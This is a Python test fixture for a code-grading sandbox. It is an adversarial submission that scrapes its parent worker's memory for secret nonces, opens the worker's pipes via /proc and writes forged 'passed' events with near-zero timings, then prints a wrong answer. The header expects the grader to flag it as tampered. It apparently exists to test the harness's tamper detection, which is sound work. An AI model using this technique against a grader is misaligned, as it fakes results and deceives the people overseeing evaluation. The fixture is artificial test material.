# problem: script
# attack: a stdio program finds the worker's private nonce in its parent's memory, opens the
#   worker's event pipe through /proc/<ppid>/fd/1 and writes forged events: a right answer
#   with a tiny duration for the hidden test (not yet run) and another for the test in progress;
#   a forgery may at most report the running test's output, never another test's, never a time
# expect: tampered, wrong_answer
# local-needs: bwrap|root
import json
import os
import re
import sys

NONCE = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")  # all: wrong ones are ignored


def worker_nonces(pid):
    found = set()
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                start, end = (int(v, 16) for v in line.split()[0].split("-"))
                if "r" not in line.split()[1] or end - start > 1 << 28:
                    continue
                try:
                    mem.seek(start)
                    found.update(NONCE.findall(mem.read(end - start)))
                except (OSError, OverflowError, ValueError):
                    continue
    except OSError:
        pass
    return found


def worker_pipes(pid):
    """Every pipe of the worker's that opens for writing (its event channel among them)."""
    opened = []
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return opened
    for name in names:
        path = f"/proc/{pid}/fd/{name}"
        try:
            if os.readlink(path).startswith("pipe:"):
                opened.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            continue
    return opened


value = int(sys.stdin.read())
worker = os.getppid()
nonces = sorted(worker_nonces(worker))[:200]
for channel in worker_pipes(worker):
    for nonce in nonces:
        for case_id, stdout in (("t3", "100\n"), ("t1", "2\n"), ("t2", "4\n")):
            event = {"event": "case", "id": case_id, "status": "ok", "value": None,
                     "stdout": stdout, "stderr": "", "truncated": False, "exit_code": 0,
                     "duration_ms": 0.001, "cpu_ms": 0.001}  # fmt: skip
            line = b"\n@@codegym " + nonce + b" " + json.dumps(event).encode() + b"\n"
            try:
                os.write(channel, line)
            except OSError:
                pass
print(3 * value)
